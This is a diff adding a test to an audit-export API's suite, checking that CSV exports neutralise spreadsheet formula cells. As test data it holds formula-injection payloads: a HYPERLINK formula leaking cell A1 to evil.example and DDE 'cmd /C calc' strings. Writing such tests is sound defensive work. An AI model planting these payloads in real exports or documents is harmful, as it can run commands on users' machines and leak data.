@@ -134,3 +134,37 @@ async def test_export_of_another_tenant_holds_none_of_its_rows(client, history):
 async def test_export_refuses_an_unknown_format(client, history):
     response = await client.get("/v1/admin/audit/export", params={"format": "xml"}, headers=CAROL)
     assert response.status_code == 400
+
+
+FORMULAS = (
+    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+async def test_export_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(client):
+    run = await new_run(client, "alice")
+    await call_tools(client, run, [tool_call("add", {"a": n, "b": 2}, call_id=call_id)
+                                   for n, call_id in enumerate(FORMULAS)])
+    [unknown] = await call_tools(client, run, [tool_call("=cmd|' /C calc'!A0", {}, call_id="call_tool_name")])
+    assert unknown["error"]["code"] == "TOOL_NOT_FOUND"
+
+    response = await client.get("/v1/admin/audit/export", params={"format": "csv", "run": run}, headers=CAROL)
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
+    by_id = {r["tool_call_id"]: r for r in rows}
+    for call_id in FORMULAS:
+        assert by_id["'" + call_id]["tool"] == "add"
+    assert by_id["call_tool_name"]["tool"] == "'=cmd|' /C calc'!A0"
+    # No cell of any row starts with what a spreadsheet evaluates, and the rest is untouched.
+    for row in rows:
+        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values()), row
+    assert {r["outcome"] for r in rows} == {"OK", "TOOL_NOT_FOUND"}
+    assert sorted(json.loads(r["arguments"] or "{}").get("a", -1) for r in rows) == [-1, 0, 1, 2, 3, 4, 5]
+    # JSON Lines carries the values as they are.
+    jsonl = await client.get("/v1/admin/audit/export", params={"run": run}, headers=CAROL)
+    assert {json.loads(line)["tool_call_id"] for line in jsonl.text.splitlines()} == {*FORMULAS, "call_tool_name"}
